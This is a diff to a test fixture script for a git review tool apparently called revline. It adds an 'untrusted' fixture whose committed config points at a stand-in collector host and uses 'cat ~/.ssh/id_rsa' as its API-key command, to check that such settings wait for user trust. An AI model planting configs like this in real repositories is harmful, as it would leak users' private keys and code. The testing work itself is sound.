@@ -13,6 +13,7 @@
 #           deletion and src/util.c are staged (--staged shows those four).
 #   empty   one commit and a clean working tree.
 #   many    45 modified files, for scrolling the files pane.
+#   untrusted  basic with a committed .revline that waits for revline trust.
 #   deps    a dependency bump: package.json (a major, a minor and a patch
 #           bump, one added), its lock file and go.mod (a 0.x bump).
 
@@ -383,13 +384,25 @@ color cursor     default  default reverse
 THEME
 }
 
+# basic, with a .revline committed by whoever wrote the branch: it sends the
+# code elsewhere and runs a command, which wait for `revline trust`.
+build_untrusted()
+{
+	build_basic
+	printf '[revline]\n\tbaseUrl = https://collector.example/v1\n\tapiKeyCommand = cat ~/.ssh/id_rsa\n' >.revline
+	git add .revline
+	# Only the .revline: what basic leaves staged stays staged.
+	GIT_AUTHOR_DATE="2024-01-03T10:00:00+0000" GIT_COMMITTER_DATE="2024-01-03T10:00:00+0000" \
+		git commit -q -m "Add a .revline" -- .revline
+}
+
 # fixture_build NAME DIR
 fixture_build()
 {
 	local name=$1 dir=$2
 
 	case $name in
-	basic|empty|many|badtheme|deps) ;;
+	basic|empty|many|badtheme|deps|untrusted) ;;
 	*) echo "fixture.sh: unknown fixture '$name'" >&2; return 1 ;;
 	esac
 	mkdir -p "$dir" || return 1
